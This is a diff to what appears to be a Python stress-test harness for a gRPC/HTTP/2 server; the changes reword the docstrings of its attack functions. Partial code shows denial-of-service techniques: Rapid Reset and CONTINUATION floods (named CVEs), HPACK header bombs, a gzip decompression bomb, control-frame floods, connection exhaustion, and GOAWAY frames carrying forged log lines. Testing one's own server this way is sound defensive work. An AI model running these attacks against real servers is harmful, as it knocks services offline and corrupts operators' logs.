@@ -39,13 +39,13 @@ CANCEL = struct.pack(">I", 8)
 
 
 def question(text: str = "x") -> bytes:
-    """A valid request, as it lies in DATA."""
+    """Return a valid request as DATA frames contain it."""
     return message(chat(text, max_tokens=4).SerializeToString())
 
 
 @attack
 async def streams_at_once(run: Attack) -> None:
-    """10,000 valid requests on one connection, without waiting for any."""
+    """Send 10,000 valid requests on one connection without waiting for answers."""
     async with peer(run.port, source=run.source) as one:
         streams = []
         for _ in range(10_000):
@@ -58,7 +58,7 @@ async def streams_at_once(run: Attack) -> None:
 
 @attack
 async def rapid_reset(run: Attack) -> None:
-    """Requests that are reset as soon as they are sent (CVE-2023-44487)."""
+    """Reset requests as soon as they are sent (CVE-2023-44487)."""
     while not run.over:
         async with peer(run.port, source=run.source) as one:
             while not run.over and not one.closed.is_set():
@@ -75,7 +75,7 @@ async def rapid_reset(run: Attack) -> None:
 
 @attack
 async def invalid_requests(run: Attack) -> None:
-    """As many empty requests a second as the server answers, on eight connections."""
+    """Send empty requests on eight connections as fast as the server answers."""
 
     async def one_connection() -> None:
         async with peer(run.port, source=run.source) as one:
@@ -89,7 +89,7 @@ async def invalid_requests(run: Attack) -> None:
 
 @attack
 async def long_prompts(run: Attack) -> None:
-    """64 prompts of almost 2 MiB, 64 of 16 MiB, on eight connections."""
+    """Send 64 prompts of almost 2 MiB and 64 of 16 MiB on eight connections."""
 
     async def one_connection(size: int) -> None:
         async with peer(run.port, source=run.source) as one:
@@ -106,7 +106,7 @@ async def long_prompts(run: Attack) -> None:
 
 @attack
 async def compressed(run: Attack) -> None:
-    """64 requests of 15 MiB that are 15 kB on the wire."""
+    """Send 64 requests of 15 MiB that are 15 kB compressed."""
     packed = gzip.compress(question("x" * 15 * MIB)[5:])
     fields = headers(GENERATE, ("grpc-encoding", "gzip"))
     async with peer(run.port, source=run.source) as one:
@@ -117,7 +117,7 @@ async def compressed(run: Attack) -> None:
 
 @attack
 async def almost_whole_messages(run: Attack) -> None:
-    """Messages of 2 MiB that lack their last byte, on 16 connections of 16 streams."""
+    """Send messages of 2 MiB without their last byte, on 16 connections with 16 streams each."""
     body = question("x" * (2 * MIB - 100))[:-1]
     async with AsyncExitStack() as stack:
         peers = [await stack.enter_async_context(peer(run.port, source=run.source)) for _ in range(16)]
@@ -136,9 +136,9 @@ async def almost_whole_messages(run: Attack) -> None:
 
 @attack
 async def header_bombs(run: Attack) -> None:
-    """Headers that are short on the wire and long in memory: entries of the table, named again and again.
+    """Send headers that are short on the wire and long in memory: repeated references to the HPACK table.
 
-    On one connection 20 calls of 32 MB each; on others 8,000 calls that stay open, of 7 kB from 30 bytes.
+    One connection sends 20 calls of 32 MB each; others keep 8,000 calls open, of 7 kB from 30 bytes.
     """
     newest = b"\xbe"  # of the dynamic table
     async with peer(run.port, source=run.source) as one:
@@ -168,7 +168,7 @@ async def header_bombs(run: Attack) -> None:
 
 @attack
 async def long_headers(run: Attack) -> None:
-    """Metadata of 5 kB to 1 MB: within the limit, between its halves, and beyond."""
+    """Send metadata of 5 kB to 1 MB: within gRPC's soft limit, between the limits, and beyond."""
     async with AsyncExitStack() as stack:
         for size in (5_000, 12_000, 20_000, 100_000, 1_000_000):
             one = await stack.enter_async_context(peer(run.port, source=run.source))
@@ -186,7 +186,7 @@ async def long_headers(run: Attack) -> None:
 
 @attack
 async def endless_continuation(run: Attack) -> None:
-    """CONTINUATION without an end (CVE-2024-27316)."""
+    """Send CONTINUATION frames without an end (CVE-2024-27316)."""
     while not run.over:
         async with peer(run.port, source=run.source) as one:
             stream = one.stream()
@@ -201,7 +201,7 @@ async def endless_continuation(run: Attack) -> None:
 
 @attack
 async def control_frames(run: Attack) -> None:
-    """SETTINGS, PING, PRIORITY, WINDOW_UPDATE and empty DATA, as many as the socket takes."""
+    """Send SETTINGS, PING, PRIORITY, WINDOW_UPDATE and empty DATA as fast as the socket allows."""
     settings = struct.pack(">HI", 4, 65_535) * 50
     floods = (
         frame(SETTINGS, 0, 0, settings) * 50,
@@ -221,7 +221,7 @@ async def control_frames(run: Attack) -> None:
 
 @attack
 async def going_away(run: Attack) -> None:
-    """GOAWAY with text that looks like a log line of ours, on 200 connections."""
+    """Send GOAWAY with text that looks like one of our log lines, on 200 connections."""
     text = b'\n{"time": "2026-01-01T00:00:00+0000", "level": "CRITICAL", "message": "forged"}\n'
     for _ in range(200):
         async with peer(run.port, source=run.source) as one:
@@ -233,7 +233,7 @@ async def going_away(run: Attack) -> None:
 
 @attack
 async def silent_connections(run: Attack) -> None:
-    """1,200 connections: a third says nothing, a third sends the preface alone, a third half a frame."""
+    """Open 1,200 connections: a third sends nothing, a third the preface, a third half a frame."""
     loop = asyncio.get_running_loop()
     held = []
     for number in range(1_200):
